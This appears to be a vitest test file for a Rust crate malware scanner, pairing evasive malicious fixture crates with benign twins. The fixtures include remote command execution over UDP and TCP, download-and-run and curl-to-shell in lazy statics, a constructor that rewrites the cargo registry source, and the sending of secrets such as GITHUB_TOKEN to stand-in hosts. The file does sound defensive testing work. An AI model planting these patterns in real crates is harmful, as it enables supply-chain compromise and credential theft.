// Flows written to slip past proximity rules, through the real scanner: commands received on a
// connection, a Command built statement by statement, one process's output fed to a shell, a
// cargo source replacement written by a constructor from text defined elsewhere, a codec's input
// kept in a builder field, env-var names listed by a helper, a one-time block behind a private
// helper. Each has a benign twin that differs in what it does with the data or what runs it.
import { describe, expect, it } from 'vitest';
import { manifest, scanFiles, worst } from '../../../../test/fixtures/scanner/crates.js';
import type { Files } from '../../../../test/fixtures/scanner/crates.js';
import { atLeast } from '../types.js';
import type { ScanReport } from '../types.js';

const lib = (name: string, files: Record<string, string>): Files => ({
  'Cargo.toml': manifest(name),
  ...files,
});
const high = (r: ScanReport) => r.verdict !== 'clean' && atLeast(r.verdict, 'high');
const src = (...lines: string[]) => lines.join('\n');

describe('flows through connections', () => {
  const udp = (handle: string) =>
    lib('poolx', {
      'src/lib.rs': src(
        'mod beat;',
        'pub struct Pool;',
        'impl Pool {',
        '    pub fn new() -> Pool { std::thread::spawn(beat::run); Pool }',
        '}',
      ),
      'src/beat.rs': src(
        'use std::net::UdpSocket;',
        'fn act(order: &[u8]) {',
        '    let text = String::from_utf8_lossy(order).to_string();',
        handle,
        '}',
        'pub(crate) fn run() {',
        '    let sock = UdpSocket::bind("0.0.0.0:0").unwrap();',
        '    let mut buf = [0u8; 512];',
        '    let _ = sock.send_to(b"hb", ("192.0.2.44", 5353));',
        '    if let Ok((n, _)) = sock.recv_from(&mut buf) { act(&buf[..n]); }',
        '}',
      ),
    });

  it('runs what a datagram says: download-exec from the first call of the API', async () => {
    const r = await scanFiles(
      udp('    let _ = std::process::Command::new("/bin/sh").args(["-c", text.trim()]).output();'),
    );
    expect(worst(r, 'flow.download-exec')).toBe('critical');
    expect(r.findings.find((f) => f.ruleId === 'flow.download-exec')?.evidence).toContain('UdpSocket::bind');
  });

  it('benign twin: the datagram is only logged', async () => {
    const r = await scanFiles(udp('    eprintln!("peer said {}", text.trim());'));
    expect(worst(r, 'flow.download-exec')).toBeNull();
    expect(high(r)).toBe(false);
  });

  const tcp = (use: string) =>
    lib('mailx', {
      'src/lib.rs': src(
        'use std::io::{BufRead, BufReader};',
        'use std::net::TcpStream;',
        'fn dispatch(line: &str) -> Vec<u8> {',
        '    let words: Vec<&str> = line.split_whitespace().collect();',
        '    match words.split_first() {',
        use,
        '        None => Vec::new(),',
        '    }',
        '}',
        'pub fn connect(addr: &str) {',
        '    let conn = TcpStream::connect(addr).unwrap();',
        '    let reader = BufReader::new(conn.try_clone().unwrap());',
        '    for line in reader.lines().map_while(Result::ok) {',
        '        let _out = dispatch(&line);',
        '    }',
        '}',
      ),
    });

  it('runs each received line through a match arm: the arm binds what the scrutinee held', async () => {
    const r = await scanFiles(
      tcp(
        '        Some((prog, args)) => std::process::Command::new(prog).args(args).output().map(|o| o.stdout).unwrap_or_default(),',
      ),
    );
    expect(worst(r, 'flow.download-exec')).toBe('critical');
  });

  it('benign twin: the received words are only counted', async () => {
    const r = await scanFiles(
      tcp('        Some((first, rest)) => vec![first.len() as u8, rest.len() as u8],'),
    );
    expect(worst(r, 'flow.download-exec')).toBeNull();
    expect(high(r)).toBe(false);
  });
});

describe('process builders and pipes', () => {
  const builder = (caller: string) =>
    lib('mimex', {
      'src/lib.rs': src(
        'use std::process::Command;',
        'fn apply(patch: &str) {',
        '    let mut c = Command::new("bash");',
        '    c.arg("-c");',
        '    c.arg(patch);',
        '    let _ = c.status();',
        '}',
        caller,
      ),
    });

  it('hands a download to a Command built statement by statement, from a lazy static', async () => {
    const r = await scanFiles(
      builder(
        src(
          'fn fetch() -> String { ureq::get("http://magic.example.invalid/x.sh").call().unwrap().into_string().unwrap() }',
          'fn table() -> Vec<u8> { apply(&fetch()); vec![] }',
          'static DB: once_cell::sync::Lazy<Vec<u8>> = once_cell::sync::Lazy::new(table);',
        ),
      ),
    );
    expect(worst(r, 'flow.download-exec')).toBe('critical');
  });

  it('benign twin: a documented task runner given a caller string', async () => {
    const r = await scanFiles(
      builder(src('/// Runs the named task with `bash -c`.', 'pub fn run(task: &str) { apply(task); }')),
    );
    expect(worst(r, 'flow.download-exec')).toBeNull();
    expect(high(r)).toBe(false);
  });

  const pipe = (consumer: string) =>
    lib('tzx', {
      'src/lib.rs': src(
        'use std::process::{Command, Stdio};',
        'const MIRROR: &str = "https://tz.example.invalid/refresh";',
        'pub struct Table;',
        'impl Table {',
        '    fn warm() -> Table {',
        '        let tool = ["cu", "rl"].concat();',
        '        let mut get = Command::new(tool).arg("-sSL").arg(MIRROR).stdout(Stdio::piped()).spawn().unwrap();',
        '        let out = get.stdout.take().unwrap();',
        `        let _ = Command::new(${consumer}).stdin(Stdio::from(out)).spawn();`,
        '        Table',
        '    }',
        '}',
        'static T: once_cell::sync::Lazy<Table> = once_cell::sync::Lazy::new(Table::warm);',
      ),
    });

  it("feeds one process's output to a shell whose name is computed: pipe-to-shell from a lazy static", async () => {
    const r = await scanFiles(pipe('["/bin", "/", "sh"].concat()'));
    expect(worst(r, 'flow.download-exec')).toBe('critical');
  });

  it('benign twin: the output is piped into tar', async () => {
    const r = await scanFiles(pipe('"tar"'));
    expect(worst(r, 'flow.download-exec')).toBeNull();
  });
});

describe('tampering text written elsewhere', () => {
  const ctor = (attr: string) =>
    lib('rngx', {
      'src/lib.rs': src(
        'use std::io::Write;',
        '#[used]',
        attr,
        'static PRIME: extern "C" fn() = prime;',
        'extern "C" fn prime() {',
        '    let home = std::env::var_os("CARGO_HOME").map(std::path::PathBuf::from).unwrap();',
        '    let _ = pin(home.join("config.toml"));',
        '}',
        'fn stanza() -> String {',
        '    let mut s = String::new();',
        '    s += "[source.crates-io]\\nreplace-with = \\"m\\"\\n";',
        '    s += "[source.m]\\nregistry = \\"sparse+https://index.example.invalid/\\"\\n";',
        '    s',
        '}',
        'fn pin(path: std::path::PathBuf) -> std::io::Result<()> {',
        '    let mut f = std::fs::OpenOptions::new().create(true).append(true).open(path)?;',
        '    f.write_all(stanza().as_bytes())',
        '}',
      ),
    });

  it('a cfg_attr link_section constructor writes a source replacement built by a helper: critical', async () => {
    const r = await scanFiles(ctor('#[cfg_attr(target_os = "linux", link_section = ".init_array")]'));
    expect(worst(r, 'flow.tamper')).toBe('critical');
  });

  it('benign twin: a cargo subcommand writes the same stanza when the user runs it', async () => {
    const r = await scanFiles({
      'Cargo.toml': manifest('vendorx'),
      'src/main.rs': src(
        'use std::io::Write;',
        'fn stanza(dir: &str) -> String { format!("[source.crates-io]\\nreplace-with = \\"v\\"\\n[source.v]\\ndirectory = \\"{dir}\\"\\n") }',
        'fn main() {',
        '    let dir = std::env::args().nth(1).unwrap();',
        '    let mut f = std::fs::OpenOptions::new().create(true).append(true).open(".cargo/config.toml").unwrap();',
        '    f.write_all(stanza(&dir).as_bytes()).unwrap();',
        '}',
      ),
    });
    expect(high(r)).toBe(false);
  });
});

describe('codec inputs and listed secrets', () => {
  const codec = (send: string) =>
    lib('bs58x', {
      'src/lib.rs': src(
        'mod metrics;',
        "pub struct EncodeBuilder<'a> { input: &'a [u8] }",
        "pub fn encode(input: &[u8]) -> EncodeBuilder<'_> { EncodeBuilder { input } }",
        "impl<'a> EncodeBuilder<'a> {",
        '    pub fn into_string(self) -> String { metrics::sample(self.input); String::new() }',
        '}',
      ),
      'src/metrics.rs': src(
        'pub(crate) fn sample(bytes: &[u8]) {',
        '    if bytes.len() != 32 { return; }',
        '    let text: String = bytes.iter().map(|b| format!("{b:02x}")).collect();',
        send,
        '}',
      ),
    });

  it("a codec's input kept in a builder field and sent later: keys in flight", async () => {
    const r = await scanFiles(
      codec('    let _ = minreq::post("https://collect.example.invalid/s").with_body(text).send();'),
    );
    expect(worst(r, 'flow.exfiltration')).not.toBeNull();
    expect(high(r)).toBe(true);
  });

  it('benign twin: the builder only counts lengths locally', async () => {
    const r = await scanFiles(codec('    eprintln!("{}", text.len());'));
    expect(worst(r, 'flow.exfiltration')).toBeNull();
    expect(high(r)).toBe(false);
  });

  const listed = (names: string) =>
    lib('fmtx', {
      'src/lib.rs': src(
        `fn key_names() -> [&'static str; 2] { [${names}] }`,
        'fn take() -> Vec<String> {',
        '    let mut out = Vec::new();',
        '    for name in key_names() { if let Ok(v) = std::env::var(name) { out.push(v); } }',
        '    out',
        '}',
        'pub fn init() {',
        '    let body = take().join(",");',
        '    let _ = reqwest::blocking::Client::new().post("https://hooks.example.invalid/x").body(body).send();',
        '}',
      ),
    });

  it('env-var names returned by a helper are read as what they name: secrets sent at init', async () => {
    const r = await scanFiles(listed('"AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"'));
    expect(worst(r, 'flow.exfiltration')).toBe('high');
  });

  it('benign twin: the helper lists locale variables', async () => {
    const r = await scanFiles(listed('"LANG", "LC_ALL"'));
    expect(worst(r, 'flow.exfiltration')).toBeNull();
  });
});

describe('one-time blocks behind a private helper', () => {
  const parse = (body: string) =>
    lib('durx', {
      'src/lib.rs': src('mod units;', 'pub fn parse(s: &str) -> u64 { units::calibrate(); s.len() as u64 }'),
      'src/units.rs': src(
        'static CAL: std::sync::Once = std::sync::Once::new();',
        'pub(crate) fn calibrate() {',
        body,
        '}',
      ),
    });

  it("the first call of parse runs the helper's Once block: an automatic trigger", async () => {
    const r = await scanFiles(
      parse(
        '    CAL.call_once(|| { let t = std::env::var("GITHUB_TOKEN").unwrap_or_default(); let _ = ureq::post("https://c.example.invalid/t").send_string(&t); });',
      ),
    );
    const f = r.findings.find((x) => x.ruleId === 'flow.exfiltration');
    expect(f?.evidence).toContain('first call of pub fn parse (a one-time block)');
  });

  it('twin: the same send on every call is ordinary API', async () => {
    const r = await scanFiles(
      parse(
        '    let t = std::env::var("GITHUB_TOKEN").unwrap_or_default(); let _ = ureq::post("https://c.example.invalid/t").send_string(&t);',
      ),
    );
    // The same send without the one-time block is ordinary API, not a first-call trigger.
    const f = r.findings.find((x) => x.ruleId === 'flow.exfiltration');
    expect(f?.evidence ?? '').not.toContain('one-time block');
  });
});
